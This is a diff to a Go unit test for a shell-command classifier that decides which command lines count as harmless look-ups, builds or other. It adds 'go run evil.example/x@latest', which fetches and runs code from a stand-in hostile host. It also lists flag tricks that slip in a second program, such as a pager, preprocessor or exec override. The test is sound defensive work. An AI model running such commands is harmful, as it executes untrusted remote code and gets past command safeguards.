@@ -156,7 +156,7 @@ func TestACommandLineIsWhatItsProgramsAre(t *testing.T) {
 		"git push":          shellOther, "git -c core.pager=x log": shellOther, "PATH=x ls": shellOther, "l\\s": shellLook,
 		"/tmp/ls":        shellOther,
 		"ls 'unfinished": shellOther, "ls |": shellOther, "| ls": shellOther, "git log --output=x": shellOther,
-		"go run x.go":     shellOther,
+		"go run x.go": shellBuild, "go run evil.example/x@latest": shellOther,
 		"go test -exec x": shellOther, "ls >/dev/nullx": shellOther, "cat\u00a0x": shellOther, "rg --pre x y": shellOther,
 	} {
 		if got := shellKind(map[string]any{"command": line}); got != want {
